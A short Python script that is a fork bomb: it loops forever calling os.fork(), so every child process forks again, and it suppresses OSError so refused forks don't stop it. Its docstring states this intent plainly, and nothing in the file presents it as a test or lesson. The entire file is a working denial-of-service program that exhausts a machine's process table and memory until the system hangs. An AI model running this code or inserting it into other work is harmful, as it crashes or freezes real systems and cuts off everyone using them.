"""Forks for ever, every child too, shrugging off each refused fork."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
